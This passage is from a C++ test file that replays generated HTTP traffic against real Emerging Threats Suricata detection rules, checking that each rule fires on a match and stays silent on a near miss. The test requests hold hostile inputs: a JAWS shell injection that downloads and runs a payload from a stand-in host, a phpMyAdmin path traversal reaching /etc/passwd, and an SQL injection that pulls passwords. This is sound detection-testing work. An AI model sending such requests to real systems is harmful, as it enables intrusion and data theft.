// Real Emerging Threats Open rules against generated HTTP/1.x conversations, through `spanguard
// replay`: each rule fires on traffic built to match it by Suricata's documented buffer semantics,
// and stays silent on a near miss (one byte off in the buffer that matters, or the right bytes in
// the wrong buffer). Also: `alert http` by content rather than port, pipelining with one alert per
// transaction, and requests cut into 1-3 byte segments.
//
// The rules are copied verbatim from et-open (snapshot 2024-04-21); rules ET ships commented out
// (disabled or in emerging-deleted.rules, kept for their legacy keywords) lose only the leading
// '#'.
#include <gtest/gtest.h>
#include <zlib.h>

#include <cstdio>
#include <fstream>
#include <map>
#include <ostream>
#include <regex>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "capture_writer.h"
#include "frame_builder.h"
#include "process.h"
#include "rule_replay.h"
#include "tcp_conversation.h"

namespace spanguard::testing {
namespace {

constexpr char kClientIp[] = "198.51.100.1";
constexpr char kServerIp[] = "198.51.100.2";

// ---- building HTTP messages ------------------------------------------------------------------

// `head` is a start line and header lines, each ending in CRLF; the body is framed by
// Content-Length.
std::string with_length(const std::string& head, std::string_view body) {
  return head + "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + std::string(body);
}

// The body framed as these chunks (RFC 9112 §7.1), so a pattern can straddle chunk framing.
std::string chunked(const std::string& head, const std::vector<std::string_view>& chunks) {
  std::string out = head + "Transfer-Encoding: chunked\r\n\r\n";
  for (std::string_view c : chunks) {
    char size[16];
    std::snprintf(size, sizeof size, "%zx", c.size());
    out += std::string(size) + "\r\n" + std::string(c) + "\r\n";
  }
  return out + "0\r\n\r\n";
}

// RFC 1952 gzip of `plain` through zlib.
std::string gzip(std::string_view plain) {
  struct Deflater {
    z_stream z{};
    Deflater() {
      if (deflateInit2(&z, Z_BEST_COMPRESSION, Z_DEFLATED, 15 + 16, 9, Z_DEFAULT_STRATEGY) != Z_OK)
        throw std::runtime_error("deflateInit2 failed");
    }
    ~Deflater() { deflateEnd(&z); }
  } d;
  std::string out(deflateBound(&d.z, plain.size()) + 64, '\0');
  d.z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(plain.data()));
  d.z.avail_in = static_cast<uInt>(plain.size());
  d.z.next_out = reinterpret_cast<Bytef*>(out.data());
  d.z.avail_out = static_cast<uInt>(out.size());
  if (deflate(&d.z, Z_FINISH) != Z_STREAM_END) throw std::runtime_error("deflate failed");
  out.resize(d.z.total_out);
  return out;
}

const std::string kGetIndex =
    "GET /index.html HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT "
    "10.0; Win64; x64)\r\nAccept: */*\r\n\r\n";
const std::string kOk =
    with_length("HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/plain\r\n", "ok");

// Response bodies sent gzip-compressed: their patterns are visible only after decompression.
const std::string kOraPage =
    "<html><head><title>Error</title></head><body><p>java.sql.SQLSyntaxErrorException: "
    "ORA-00933: SQL command not properly ended</p><p>" +
    std::string(200, ' ') + "</p></body></html>";
const std::string kRefreshToken =
    "eyJ0eXAiOiJKV1QiLCJhbGciOiJIUzI1NiJ9.eyJ0b2tlbl90eXBlIjoicmVmcmVzaCIsImV4cCI6MTcwMDAwMDAwMH0."
    "c2lnbmF0dXJl";
const std::string kRefreshJson = "{\"refresh\":\"" + kRefreshToken + "\"}";

// ---- running the sensor ----------------------------------------------------------------------

// Which side the rule's $HOME_NET (and so $HTTP_SERVERS) is: the test sets it to that one host.
enum class Home { kClient, kServer };

void append(std::vector<Bytes>& to, const std::vector<Bytes>& more) {
  to.insert(to.end(), more.begin(), more.end());
}

// Handshake, the request, the response (if any), FIN exchange.
std::vector<Bytes> exchange(const std::string& request, const std::string& response,
                            uint16_t port = 80, const std::string& client_ip = kClientIp,
                            const std::string& server_ip = kServerIp) {
  TcpConversation c({client_ip, 41000, kClientMac}, {server_ip, port, kServerMac});
  std::vector<Bytes> frames = c.handshake();
  append(frames, c.client_sends(request));
  if (!response.empty()) append(frames, c.server_sends(response));
  append(frames, c.close());
  return frames;
}

// The rule variables of one run: $HOME_NET (and so $HTTP_SERVERS) is that one host;
// $EXTERNAL_NET keeps its default, !$HOME_NET.
std::string home_is(Home home) {
  return std::string("{HOME_NET: \"[") + (home == Home::kClient ? kClientIp : kServerIp) +
         "/32]\"}";
}

// ---- the rules ---------------------------------------------------------------------------------

// http.uri is the normalized URI: percent-decoded path (then RFC 3986 dot-segment removal), the
// query left as sent; urilen measures that normalized buffer unless ",raw" is given.
const std::string k2021414 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET HUNTING Suspicious SWF filename movie(dot)swf in doc root"; flow:established,to_server; urilen:10; http.uri; content:"/movie.swf"; fast_pattern; classtype:trojan-activity; sid:2021414; rev:4; metadata:created_at 2015_07_15, former_category CURRENT_EVENTS, updated_at 2020_10_01;))RULE";
const std::string k2019526 =
    R"RULE(alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ET WEB_SERVER WEB-PHP phpinfo access"; flow:to_server,established; http.uri; content:"/phpinfo.php"; nocase; reference:bugtraq,5789; reference:cve,2002-1149; reference:url,www.osvdb.org/displayvuln.php?osvdb_id=3356; classtype:successful-recon-limited; sid:2019526; rev:5; metadata:created_at 2010_09_23, cve CVE_2002_1149, updated_at 2020_05_13;))RULE";
// http.uri.raw is the URI exactly as sent.
const std::string k2025734 =
    R"RULE(alert http $EXTERNAL_NET any -> $HTTP_SERVERS any (msg:"ET EXPLOIT phpMyAdmin 4.8.1 - Local File Inclusion"; flow:to_server,established; http.uri; content:"db_sql.php"; nocase; http.uri.raw; content:"|2e 2e 2f|"; classtype:web-application-attack; sid:2025734; rev:3; metadata:affected_product PHP, attack_target Web_Server, created_at 2018_06_22, deployment Datacenter, former_category EXPLOIT, performance_impact Low, signature_severity Major, updated_at 2020_08_25;))RULE";
// emerging-deleted.rules: legacy http_method / http_raw_uri / http_uri, pcre /I on the raw URI.
const std::string k2009082 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET DELETED Password Stealer Reporting - ?a=%NN&b="; flow:to_server,established; content:"POST"; nocase; http_method; content:"a=%"; http_raw_uri; content:"&b="; http_uri; pcre:"/a=\%[0-9a-fA-F]{2}\&b/Ii"; classtype:trojan-activity; sid:2009082; rev:6; metadata:created_at 2010_07_30, updated_at 2019_07_26;))RULE";
// Disabled in emerging-web_specific_apps.rules: uricontent in an `alert tcp` rule, pcre /U.
const std::string k2006609 =
    R"RULE(alert tcp $EXTERNAL_NET any -> $HTTP_SERVERS $HTTP_PORTS (msg:"ET WEB_SPECIFIC_APPS iWare Professional SQL Injection Attempt -- index.php D SELECT"; flow:established,to_server; uricontent:"/index.php?"; nocase; uricontent:"D="; nocase; uricontent:"SELECT"; nocase; uricontent:"FROM"; nocase; pcre:"/SELECT.+FROM/Ui"; reference:cve,CVE-2006-6446; reference:url,www.securityfocus.com/bid/21467; classtype:web-application-attack; sid:2006609; rev:8; metadata:affected_product Web_Server_Applications, attack_target Web_Server, created_at 2010_07_30, deployment Datacenter, signature_severity Major, tag SQL_Injection, updated_at 2020_08_20;))RULE";
// Disabled in emerging-exploit_kit.rules: http_uri content, pcre /U anchored at the URI's end.
const std::string k2017139 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET EXPLOIT_KIT DotkaChef JJencode Script URI Struct"; flow:established,to_server; content:"voDc0RHa8NnZ"; http_uri; fast_pattern; pcre:"/\/\?={0,2}[A-Za-z0-9\+\/]+?voDc0RHa8NnZ$/U"; classtype:exploit-kit; sid:2017139; rev:3; metadata:created_at 2013_07_13, updated_at 2019_10_08;))RULE";
const std::string k2030093 =
    R"RULE(alert http $EXTERNAL_NET any -> any any (msg:"ET SCAN JAWS Webserver Unauthenticated Shell Command Execution"; flow:established,to_server; http.method; content:"GET"; http.uri.raw; content:"/shell?cd+/tmp|3b|rm+-rf+*|3b|wget+"; depth:29; fast_pattern; reference:md5,fea9e4132fc9d30bda5eb6b1d9d0b9b9; classtype:web-application-attack; sid:2030093; rev:2; metadata:affected_product Linux, attack_target Web_Server, created_at 2020_05_04, deployment Perimeter, signature_severity Minor, updated_at 2020_05_04;))RULE";
// Disabled in emerging-policy.rules: HTTP found by content on a port that is not $HTTP_PORTS.
const std::string k2006409 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET !$HTTP_PORTS (msg:"ET POLICY HTTP POST on unusual Port Possibly Hostile"; flow:established,to_server; content:"POST"; nocase; http_method; classtype:policy-violation; sid:2006409; rev:10; metadata:created_at 2010_07_30, updated_at 2019_07_26;))RULE";
// http.host is the hostname only, lower-cased, without the port; bsize is its length.
const std::string k2034843 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET GAMES Moonlight Hack Actvity (GET)"; flow:established,to_server; http.method; content:"GET"; http.host; content:"moonlight.uno"; bsize:13; fast_pattern; reference:md5,ebfdbc2a60373344e6ab32c866027ea8; classtype:policy-violation; sid:2034843; rev:1; metadata:attack_target Client_Endpoint, created_at 2021_12_23, deployment Perimeter, deployment SSLDecrypt, former_category GAMES, signature_severity Minor, updated_at 2021_12_23;))RULE";
const std::string k2022368 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET POLICY External IP Lookup - ip.tyk.nu"; flow:established,to_server; urilen:1; http.host; content:"ip.tyk.nu"; fast_pattern; bsize:9; classtype:external-ip-check; sid:2022368; rev:4; metadata:created_at 2016_01_14, former_category POLICY, updated_at 2020_10_05;))RULE";
// http.user_agent is the header's value: no name, no leading whitespace, no CRLF.
const std::string k2029790 =
    R"RULE(alert http $EXTERNAL_NET any -> any any (msg:"ET SCAN ELF/Mirai Variant User-Agent (Inbound)"; flow:established,to_server; http.user_agent; bsize:3; content:"XTC"; fast_pattern; classtype:attempted-admin; sid:2029790; rev:4; metadata:affected_product Linux, attack_target IoT, created_at 2020_04_02, deployment Perimeter, signature_severity Minor, updated_at 2024_03_08;))RULE";
// distance/within inside one buffer (Suricata: the window is [end + distance, end + distance +
// within)), then pcre /V. `threshold` (limit 2 per source) lets the first alert through.
const std::string k2034948 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET USER_AGENTS Suspicious User-Agent (dBrowser CallGetResponse)"; flow:to_server,established; threshold: type limit, count 2, track by_src, seconds 300; http.user_agent; content:"dBrowser"; startswith; content:"CallGetResponse:"; fast_pattern; distance:3; within:16; pcre:"/^dBrowser\x20\d\x20CallGetResponse\x3a\d$/V"; reference:md5,e09ad59bff10bd4b730ee643809ec9a7; classtype:trojan-activity; sid:2034948; rev:2; metadata:affected_product Windows_XP_Vista_7_8_10_Server_32_64_Bit, attack_target Client_Endpoint, created_at 2022_01_19, deployment Perimeter, former_category USER_AGENTS, signature_severity Minor, updated_at 2022_01_19;))RULE";
// http.header_names is "\r\nName1\r\nName2\r\n\r\n": "Accept" is also found in Accept-Language.
const std::string k2012491 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET USER_AGENTS Suspicious User-Agent (Presto)"; flow:established,to_server; http.user_agent; content:"Opera/10.60 Presto/2.2.30"; http.header_names; content:!"Accept"; classtype:trojan-activity; sid:2012491; rev:9; metadata:affected_product Any, attack_target Client_Endpoint, created_at 2011_03_12, deployment Perimeter, former_category TROJAN, signature_severity Major, tag User_Agent, updated_at 2020_08_17;))RULE";
// Disabled in emerging-adware_pup.rules: legacy http_user_agent with depth.
const std::string k2007786 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET ADWARE_PUP PCDoc.co.kr Fake AV User-Agent (PCDoc11)"; flow:established,to_server; content:"PCDoc"; http_user_agent; depth:5; classtype:pup-activity; sid:2007786; rev:8; metadata:created_at 2010_07_30, former_category ADWARE_PUP, updated_at 2019_08_14;))RULE";
// http.header is "Name: value\r\n" per header (Host included, Cookie left out, no final CRLF);
// http.cookie is the Cookie value; distance:0 chains inside it.
const std::string k2020557 =
    R"RULE(alert http any any -> $EXTERNAL_NET any (msg:"ET WEB_SERVER ATTACKER WebShell - Weevely - Cookie"; flow:established,to_server; http.header; content:"ing|3a| identity|0D 0A|Host|3a|"; http.cookie; content:"SESS="; content:"|3B| SID="; distance:0; content:"|3B| PREF="; distance:0; content:"|3B|SSID="; distance:0; classtype:trojan-activity; sid:2020557; rev:3; metadata:created_at 2015_02_24, updated_at 2020_05_15;))RULE";
// emerging-deleted.rules: legacy http_header twice, pcre /H relying on the CRLF after each header.
const std::string k2008664 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET DELETED Generic Dropper HTTP Bot grabbing config"; flow: to_server,established; content:".txt"; nocase; http_uri; fast_pattern; content:"Pragma|3a| no-cache"; http_header; content:"User-Agent|3a| "; http_header; pcre:"/User-Agent\x3a \d{6}\x0d\x0a/H"; classtype:trojan-activity; sid:2008664; rev:11; metadata:created_at 2010_07_30, updated_at 2019_07_26;))RULE";
// emerging-deleted.rules: fast_pattern:only on http_header, pcre /Hi confined to one header line.
const std::string k2003305 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET DELETED Zango-Hotbar User-Agent (zbu-hb-)"; flow:to_server,established; content:"zbu-hb-"; http_header; fast_pattern:only; pcre:"/User-Agent\:[^\n]+zbu-hb-/Hi"; classtype:trojan-activity; sid:2003305; rev:10; metadata:created_at 2010_07_30, updated_at 2019_07_26;))RULE";
// Disabled in emerging-exploit_kit.rules: HTTP on port 8080 (!80), pcre /Hmi over the Host line.
const std::string k2019973 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET !80 (msg:"ET EXPLOIT_KIT Archie EK T2 Activity Dec 18 2014"; flow:established,to_server; content:"/landing?action="; http_uri; fast_pattern:only; pcre:"/^Host\x3a\s*?\d{1,3}\.\d{1,3}\.\d{1,3}\.\d{1,3}(?:\x3a|\r\n)/Hmi"; classtype:exploit-kit; sid:2019973; rev:2; metadata:created_at 2014_12_18, former_category CURRENT_EVENTS, updated_at 2019_07_26;))RULE";
// Response side: http.header_names and http.header of the response.
const std::string k2035087 =
    R"RULE(alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ET INFO Gophish X-Server"; flow:established,to_client; http.stat_code; content:"200"; http.header_names; content:"|58 2d 53 65 72 76 65 72|"; nocase; http.header; content:"gophish"; fast_pattern; reference:md5,bf2162ca3c0cb9253af87d7a785a97a4; classtype:misc-activity; sid:2035087; rev:3; metadata:attack_target Client_Endpoint, created_at 2022_02_03, deployment Perimeter, former_category INFO, signature_severity Informational, updated_at 2023_01_18;))RULE";
// http.request_line is the request line as sent, without CRLF.
const std::string k2033045 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET INFO POST to Double Slash in URI"; flow:established,to_server; http.request_line; content:"POST|20|//|20|HTTP/1."; startswith; http.header_names; content:!"Referer"; classtype:bad-unknown; sid:2033045; rev:2; metadata:affected_product Any, attack_target Client_Endpoint, created_at 2021_05_28, deployment Perimeter, former_category INFO, signature_severity Informational, updated_at 2021_05_28;))RULE";
const std::string k2019627 =
    R"RULE(alert http $EXTERNAL_NET any -> $HTTP_SERVERS any (msg:"ET WEB_SERVER Possible Cookie Based BackDoor Used in Drupal Attacks"; flow:established,to_server; http.cookie; content:"preg_replace"; nocase; reference:url,www.kahusecurity.com/posts/drupal_7_sql_injection_info.html; classtype:attempted-user; sid:2019627; rev:4; metadata:created_at 2014_11_03, former_category WEB_SERVER, updated_at 2020_08_27;))RULE";
// To the client, http.cookie is the Set-Cookie value.
const std::string k2014542 =
    R"RULE(alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ET EXPLOIT_KIT TDS Sutra - redirect received"; flow:established,to_client; http.stat_code; content:"302"; http.cookie; content:"SL_"; depth:3; content:"_0000="; within:8; fast_pattern; classtype:exploit-kit; sid:2014542; rev:5; metadata:created_at 2012_04_12, former_category EXPLOIT_KIT, tag TDS, updated_at 2020_10_28;))RULE";
// A stream content plus pcre /C: both must hold.
const std::string k2018602 =
    R"RULE(alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ET WEB_SERVER c99 Shell Backdoor Var Override Cookie"; flow:to_server,established; content:"c99shcook"; nocase; fast_pattern; pcre:"/c99shcook/Ci"; reference:url,thehackerblog.com/every-c99-php-shell-is-backdoored-aka-free-shells/; classtype:trojan-activity; sid:2018602; rev:3; metadata:created_at 2014_06_24, updated_at 2019_10_08;))RULE";
const std::string k2001499 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET ADWARE_PUP Look2me Spyware Activity (1)"; flow: to_server,established; http.referer; content:"Look2Me"; nocase; startswith; reference:url,securityresponse.symantec.com/avcenter/venc/data/adware.look2me.html; classtype:pup-activity; sid:2001499; rev:12; metadata:created_at 2010_07_30, former_category ADWARE_PUP, updated_at 2020_08_31;))RULE";
// http.content_type is the header's value, case kept.
const std::string k2102547 =
    R"RULE(alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"GPL MISC HP Web JetAdmin remote file upload attempt"; flow:to_server,established; http.uri; content:"/plugins/hpjwja/script/devices_update_printer_fw_upload.hts"; http.content_type; content:"Multipart"; reference:bugtraq,9978; classtype:web-application-activity; sid:2102547; rev:5; metadata:created_at 2010_09_23, updated_at 2020_04_21;))RULE";
const std::string k2025238 =
    R"RULE(alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ET INFO Base64 Encoded powershell.exe in HTTP Response M1"; flow:established,from_server; http.content_type; content:"text/plain"; startswith; file.data; content:"cG93ZXJzaGVsbC5leG"; fast_pattern; reference:url,otx.alienvault.com/pulse/5a1348416dd9eb0c92d9897a; classtype:bad-unknown; sid:2025238; rev:4; metadata:created_at 2018_01_22, former_category INFO, updated_at 2020_08_24;))RULE";
// http.request_body: the body after Content-Length or chunked framing is removed.
const std::string k2020830 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET POLICY External IP Lookup - Bravica"; flow:established,to_server; http.method; content:"POST"; http.host; content:"www.bravica.net"; bsize:15; http.request_body; content:"name="; content:"&cmd="; distance:0; classtype:external-ip-check; sid:2020830; rev:5; metadata:created_at 2015_04_02, former_category POLICY, updated_at 2020_05_21;))RULE";
const std::string k2019804 =
    R"RULE(alert http $EXTERNAL_NET any -> $HTTP_SERVERS any (msg:"ET WEB_SERVER PHP.//Input in HTTP POST"; flow:established,to_server; http.method; content:"POST"; http.uri.raw; content:"php|3a 2f 2f|input"; fast_pattern; http.request_body; content:"<?"; depth:2; reference:url,www.deependresearch.org/2014/07/another-linux-ddos-bot-via-cve-2012-1823.html; classtype:trojan-activity; sid:2019804; rev:4; metadata:created_at 2014_11_25, updated_at 2020_05_13;))RULE";
// emerging-deleted.rules: legacy http_client_body with depth/within/distance chains, pcre /P.
const std::string k2016562 =
    R"RULE(alert http $HOME_NET any -> $EXTERNAL_NET any (msg:"ET DELETED Possible Neutrino EK Posting Plugin-Detect Data"; flow:established,to_server; content:"POST"; nocase; http_method; content:"h"; depth:1; http_client_body; content:"="; within:12; http_client_body; content:"&p"; distance:24; within:2; http_client_body; pcre:"/^h[a-z0-9]{0,10}\x3d[a-f0-9]{24}&p[a-z0-9]{0,10}\x3d[a-z0-9]{1,11}&i/P"; classtype:exploit-kit; sid:2016562; rev:8; metadata:created_at 2013_03_12, former_category CURRENT_EVENTS, updated_at 2019_07_26;))RULE";
// file.data: the response body dechunked and decompressed.
const std::string k2016671 =
    R"RULE(alert http $HTTP_SERVERS any -> $EXTERNAL_NET any (msg:"ET WEB_SERVER SQL Errors in HTTP 500 Response (SqlException)"; flow:from_server,established; http.stat_code; content:"500"; file.data; content:"SqlException"; classtype:bad-unknown; sid:2016671; rev:3; metadata:created_at 2013_03_27, updated_at 2020_04_23;))RULE";
// Disabled in emerging-web_server.rules: legacy http_stat_code and file_data.
const std::string k2016676 =
    R"RULE(alert http $HTTP_SERVERS any -> $EXTERNAL_NET any (msg:"ET WEB_SERVER SQL Errors in HTTP 200 Response (ORA-)"; flow:from_server,established; content:"200"; http_stat_code; file_data; content:"ORA-"; distance:0; classtype:bad-unknown; sid:2016676; rev:2; metadata:created_at 2013_03_27, updated_at 2019_07_26;))RULE";
const std::string k2027341 =
    R"RULE(alert http $HTTP_SERVERS any -> $EXTERNAL_NET any (msg:"ET WEB_SERVER China Chopper WebShell Observed Outbound"; flow:established,from_server; http.stat_code; content:"200"; file.data; content:"<%@|20|Page|20|Language=|22|Jscript|22|%><eval|28|Request.Item|5b|"; fast_pattern; content:"|22 29 3b|%>"; within:50; classtype:trojan-activity; sid:2027341; rev:4; metadata:created_at 2019_05_09, former_category WEB_SERVER, performance_impact Low, updated_at 2020_11_18;))RULE";
// file_data with relative pcre /QR (Q: the response body, the buffer file_data already selects).
const std::string k2025870 =
    R"RULE(alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ET PHISHING Badoo Phishing Landing 2018-07-19"; flow:established,from_server; file_data; content:"<title>Sign in to Badoo</title>"; fast_pattern; content:"<label for=|22|emaill"; distance:0; pcre:"/^\d{5,20}\x22/QR"; content:"<label for=|22|password"; pcre:"/^\d{5,20}\x22/QR"; content:">Password</label>"; within:40; content:">Sign me in!</span>"; distance:0; classtype:social-engineering; sid:2025870; rev:3; metadata:attack_target Client_Endpoint, created_at 2018_07_19, deployment Perimeter, former_category CURRENT_EVENTS, performance_impact Low, signature_severity Minor, tag Phish, updated_at 2020_08_19;))RULE";
// http.response_body is decompressed like file.data.
const std::string k2038556 =
    R"RULE(alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ET ADWARE_PUP CoinSurf Proxy CnC Response (Refesh Token)"; flow:established,to_client; http.stat_code; content:"200"; http.response_body; content:"|7b 22|refresh|22 3a 22|eyJ0eXA"; startswith; fast_pattern; content:".eyJ0b2tlbl90eXBlIjoicmVmcmVzaC"; within:67; reference:md5,7f04ef97ddb1bcc3fa473b9a01ce4164; classtype:pup-activity; sid:2038556; rev:1; metadata:affected_product Windows_XP_Vista_7_8_10_Server_32_64_Bit, affected_product Mac_OSX, attack_target Client_Endpoint, created_at 2022_08_18, deployment Perimeter, deployment SSLDecrypt, former_category ADWARE_PUP, signature_severity Major, updated_at 2022_08_18, reviewed_at 2024_01_26;))RULE";
// A negated relative content: "Rar!" not followed by the real RAR marker bytes.
const std::string k2008782 =
    R"RULE(alert http $EXTERNAL_NET any -> $HOME_NET any (msg:"ET POLICY Possible Trojan File Download bad rar file header (not a valid rar file)"; flow:established,to_client; http.content_type; content:"application|2f|octet-stream"; startswith; http.response_body; content:"|52 61 72 21|"; startswith; fast_pattern; content:!"|1a 07|"; within:2; reference:url,en.wikipedia.org/wiki/RAR_(file_format); classtype:bad-unknown; sid:2008782; rev:7; metadata:attack_target Client_and_Server, created_at 2010_07_30, deployment Perimeter, former_category POLICY, confidence High, signature_severity Minor, updated_at 2023_05_04; target:dest_ip;))RULE";
// Not from ET (no ET Open rule combines request and response buffers without flowbits): request
// buffers and response buffers of the same transaction in one rule; it fires once the response
// is seen, so the header admits either direction.
const std::string kRequestAndResponse =
    R"RULE(alert http any any -> any any (msg:"spanguard test: executable served for a .jpg request"; flow:established; http.method; content:"GET"; http.uri; content:".jpg"; endswith; http.stat_code; content:"200"; file.data; content:"MZ"; startswith; sid:1000001; rev:1;))RULE";

// base64_decode / base64_data: the decoded XML-RPC argument must start with a backtick.
const std::string k2034366 =
    R"RULE(alert http any any -> [$HOME_NET,$HTTP_SERVERS] any (msg:"ET EXPLOIT Possible MovableTypePoC RCE Inbound (CVE-2021-20837)"; flow:established,to_server; http.method; content:"POST"; http.uri; content:"mt-xmlrpc.cgi"; fast_pattern; http.request_body; content:"<?"; content:"<base64>"; distance:0; base64_decode:offset 0,relative; base64_data; content:"|60|"; startswith; reference:cve,2021-20837; classtype:attempted-admin; sid:2034366; rev:1; metadata:attack_target Server, created_at 2021_11_09, cve CVE_2021_20837, deployment Perimeter, deployment Internal, former_category EXPLOIT, signature_severity Major, updated_at 2021_11_09;))RULE";
// base64_decode with bytes: the decoded first 300 bytes hold an external entity.
const std::string k2031507 =
    R"RULE(alert http any any -> any any (msg:"ET EXPLOIT Microsoft Exchange Server Exploitation (CVE-2020-17141)"; flow:to_server,established; http.method; content:"POST"; http.uri; content:"/ews/Exchange.asmx"; startswith; http.request_body; content:"<m:RouteComplaint|20|"; content:"<m:Data>"; distance:0; base64_decode:bytes 300, offset 0, relative; base64_data; content:"<!DOCTYPE"; content:"SYSTEM"; distance:0; classtype:web-application-attack; sid:2031507; rev:1; metadata:attack_target Server, created_at 2021_01_08, cve CVE_2020_17141, deployment Perimeter, deployment Internal, former_category EXPLOIT, signature_severity Major, updated_at 2021_01_08;))RULE";

// ---- the cases ---------------------------------------------------------------------------------

struct RuleCase {
  std::string name;  // Sid<sid>_<what the traffic shows>
  std::string rule;
  Home home;
  std::string request;
  std::string response;
  bool fires;
  uint16_t port = 80;
};

std::vector<RuleCase> rule_cases() {
  std::vector<RuleCase> c;
  auto add = [&](std::string name, const std::string& rule, Home home, std::string request,
                 std::string response, bool fires, uint16_t port = 80) {
    c.push_back({"Sid" + std::to_string(sid_of(rule)) + "_" + std::move(name), rule, home,
                 std::move(request), std::move(response), fires, port});
  };
  const Home kC = Home::kClient, kS = Home::kServer;

  // http.uri, urilen: "/movie%2Eswf" (12 bytes sent) normalizes to "/movie.swf" (10).
  add("UrilenCountsThePercentDecodedPath", k2021414, kC,
      "GET /movie%2Eswf HTTP/1.1\r\nHost: cdn.example.net\r\nAccept: */*\r\n\r\n", kOk, true);
  add("NearMiss_QueryMakesUriLonger", k2021414, kC,
      "GET /movie.swf?v=1 HTTP/1.1\r\nHost: cdn.example.net\r\nAccept: */*\r\n\r\n", kOk, false);
  add("PercentEncodedPathIsDecoded", k2019526, kS,
      "GET /PHP%49nfo.php HTTP/1.1\r\nHost: www.example.com\r\n\r\n", kOk, true);
  add("NearMiss_PathOnlyInReferer", k2019526, kS,
      "GET /index.php HTTP/1.1\r\nHost: www.example.com\r\nReferer: "
      "http://www.example.com/phpinfo.php\r\n\r\n",
      kOk, false);
  // CVE-2018-12613: "../" in the query, as sent.
  add("RawUriKeepsDotDotSlash", k2025734, kS,
      "GET /phpmyadmin/index.php?target=db_sql.php%253f/../../../../etc/passwd HTTP/1.1\r\n"
      "Host: 198.51.100.2\r\n\r\n",
      kOk, true);
  add("NearMiss_RawUriIsNotDecoded", k2025734, kS,
      "GET /phpmyadmin/index.php?target=db_sql.php%253f/%2e%2e%2f%2e%2e%2fetc/passwd HTTP/1.1\r\n"
      "Host: 198.51.100.2\r\n\r\n",
      kOk, false);
  add("PercentSequenceSeenInRawUri", k2009082, kC,
      with_length("POST /gate.php?a=%4A&b=pass HTTP/1.1\r\nHost: www.example.org\r\n"
                  "Content-Type: application/x-www-form-urlencoded\r\n",
                  "x=12"),
      kOk, true);
  add("NearMiss_NoPercentInUri", k2009082, kC,
      with_length("POST /gate.php?a=J&b=pass HTTP/1.1\r\nHost: www.example.org\r\n"
                  "Content-Type: application/x-www-form-urlencoded\r\n",
                  "x=12"),
      kOk, false);
  add("UricontentAndPcreUOnTheUri", k2006609, kS,
      "GET /iware/index.php?D=-1%20UNION%20SELECT%201,username,password%20FROM%20users-- "
      "HTTP/1.1\r\nHost: 198.51.100.2\r\n\r\n",
      kOk, true);
  add("NearMiss_SqlOnlyInBody", k2006609, kS,
      with_length("POST /iware/index.php?D=4 HTTP/1.1\r\nHost: 198.51.100.2\r\n"
                  "Content-Type: application/x-www-form-urlencoded\r\n",
                  "q=SELECT username FROM users"),
      kOk, false);
  add("PcreUAnchoredAtUriEnd", k2017139, kC,
      "GET /?=QWxlcnQ+voDc0RHa8NnZ HTTP/1.1\r\nHost: www.example.net\r\n\r\n", kOk, true);
  add("NearMiss_UriContinuesAfterMarker", k2017139, kC,
      "GET /?=QWxlcnQ+voDc0RHa8NnZ&r=1 HTTP/1.1\r\nHost: www.example.net\r\n\r\n", kOk, false);

  // http.method
  add("MethodAndRawUriDepth", k2030093, kS,
      "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/jaws;sh+/tmp/jaws HTTP/1.1\r\n"
      "User-Agent: Hello, world\r\nHost: 198.51.100.2:80\r\n\r\n",
      kOk, true);
  add("NearMiss_PostMethod", k2030093, kS,
      with_length("POST /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.66/jaws;sh+/tmp/jaws "
                  "HTTP/1.1\r\nUser-Agent: Hello, world\r\nHost: 198.51.100.2:80\r\n",
                  ""),
      kOk, false);
  add("PostOnPort8888", k2006409, kC,
      with_length("POST /upload HTTP/1.1\r\nHost: 198.51.100.2:8888\r\n", "hello"), kOk, true,
      8888);
  add("NearMiss_GetOnPort8888", k2006409, kC,
      "GET /upload HTTP/1.1\r\nHost: 198.51.100.2:8888\r\n\r\n", kOk, false, 8888);
  add("NearMiss_PostOnHttpPort", k2006409, kC,
      with_length("POST /upload HTTP/1.1\r\nHost: 198.51.100.2\r\n", "hello"), kOk, false, 80);

  // http.host, bsize, urilen
  add("HostAndBsize", k2034843, kC,
      "GET /api/v2/status HTTP/1.1\r\nHost: moonlight.uno\r\nUser-Agent: Moonlight/2.1\r\n\r\n",
      kOk, true);
  add("HostIsLowercasedWithoutPort", k2034843, kC,
      "GET /api/v2/status HTTP/1.1\r\nHost: MoonLight.UNO:8443\r\nUser-Agent: "
      "Moonlight/2.1\r\n\r\n",
      kOk, true);
  add("NearMiss_LongerHost", k2034843, kC,
      "GET /api/v2/status HTTP/1.1\r\nHost: moonlight.uno.example.com\r\nUser-Agent: "
      "Moonlight/2.1\r\n\r\n",
      kOk, false);
  add("UrilenOneAndHostBsize", k2022368, kC,
